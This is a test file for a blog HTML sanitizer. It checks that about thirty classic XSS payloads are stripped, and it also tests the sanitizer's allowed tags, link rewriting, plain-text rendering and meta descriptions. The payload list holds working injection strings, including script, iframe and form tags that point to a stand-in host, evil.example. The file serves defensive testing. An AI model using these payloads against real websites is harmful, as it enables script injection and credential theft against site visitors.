import { describe, expect, it } from "vitest";
import { isHtmlBody, metaDescription, plainText, renderBlogBody, sanitizeBlogHtml } from "./sanitize";

/** Classic XSS payloads (OWASP filter-evasion cheat sheet and friends). None may survive. */
const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="https://ok.example/a.png" onerror="alert(1)">`,
  `<img src="javascript:alert(1)">`,
  `<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="JaVaScRiPt:alert(1)">click</a>`,
  `<a href="jav&#x09;ascript:alert(1)">click</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">click</a>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<form action="https://evil.example"><input name="password"><button>Go</button></form>`,
  `<p style="background:url(javascript:alert(1))">styled</p>`,
  `<svg onload=alert(1)><circle r="4"/></svg>`,
  `<body onload=alert(1)>`,
  `<object data="https://evil.example/x.swf"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
  `<details open ontoggle=alert(1)>`,
  `<p onclick="alert(1)" onmouseover="alert(1)">hover</p>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>body{display:none}</style>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<script>alert(1);//<</script>`,
  `<a href="//evil.example/x">protocol relative</a>`,
  `<img src="//evil.example/x.png">`,
  `<base href="https://evil.example/">`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
];

describe("sanitizeBlogHtml", () => {
  it.each(PAYLOADS)("removes every executable part of %s", (payload) => {
    const out = sanitizeBlogHtml(`<h2>Title</h2>${payload}<p>after</p>`).toLowerCase();
    expect(out).not.toMatch(
      /<script|<iframe|<form|<object|<embed|<svg|<math|<style|<meta|<link|<base|<input|<button|<body|<details|<template/,
    );
    expect(out).not.toMatch(/\son[a-z]+\s*=/);
    expect(out).not.toMatch(/javascript:|vbscript:|data:/);
    expect(out).not.toMatch(/style=/);
    expect(out).not.toMatch(/(href|src)="\/\//);
    expect(out).toContain("<h2>title</h2>");
  });

  it("keeps the allowed subset, adds rel=noopener to external links and keeps local and https images", () => {
    const html =
      `<h2>Heading</h2><h3>Sub</h3><p>Text <strong>bold</strong> <em>it</em></p><ul><li>a</li></ul><ol><li>b</li></ol>` +
      `<blockquote>quote</blockquote><a href="https://example.com" rel="opener" target="_self">x</a>` +
      `<a href="mailto:coach@example.com">mail</a><img src="/uploads/abc.png" alt="A"><img src="https://cdn.example/p.jpg" alt="B">` +
      `<img src="http://insecure.example/p.jpg" alt="C">`;
    const out = sanitizeBlogHtml(html);
    expect(out).toContain(
      "<h2>Heading</h2><h3>Sub</h3><p>Text <strong>bold</strong> <em>it</em></p><ul><li>a</li></ul><ol><li>b</li></ol>",
    );
    expect(out).toContain("<blockquote>quote</blockquote>");
    expect(out).toContain('<a href="https://example.com" rel="noopener noreferrer" target="_blank">x</a>');
    expect(out).toContain('<a href="mailto:coach@example.com">mail</a>');
    expect(out).toContain('<img src="/uploads/abc.png" alt="A" />');
    expect(out).toContain('<img src="https://cdn.example/p.jpg" alt="B" />');
    expect(out).not.toContain("insecure.example");
  });
});

describe("body display rule and meta description (spec section 5)", () => {
  it("shows a body with h2, ul or ol as HTML", () => {
    expect(isHtmlBody("<h2>A</h2><p>b</p>")).toBe(true);
    expect(isHtmlBody("<ul><li>a</li></ul>")).toBe(true);
    expect(isHtmlBody('<ol class="x"><li>a</li></ol>')).toBe(true);
    expect(isHtmlBody("Plain text\nwith lines")).toBe(false);
    expect(renderBlogBody("<h2>A</h2>\n<p>b</p>")).toBe("<h2>A</h2>\n<p>b</p>");
  });

  it("turns newlines of a plain-text body into line breaks and paragraphs, escaping markup", () => {
    expect(renderBlogBody("First line\nsecond line\n\nNew paragraph")).toBe("<p>First line<br />second line</p>\n<p>New paragraph</p>");
    expect(renderBlogBody("a < b & <script>alert(1)</script>c")).toBe("<p>a &lt; b &amp; c</p>");
  });

  it("falls back to the first 160 characters of the body text", () => {
    const body = `<h2>Why</h2><p>${"word ".repeat(60)}</p>`;
    const description = metaDescription(body, null);
    expect(description).toHaveLength(160);
    expect(description.startsWith("Why word word")).toBe(true);
    expect(metaDescription(body, "Custom description")).toBe("Custom description");
    expect(plainText("<p>A&amp;B</p><ul><li>one</li><li>two</li></ul>")).toBe("A&B one two");
  });
});
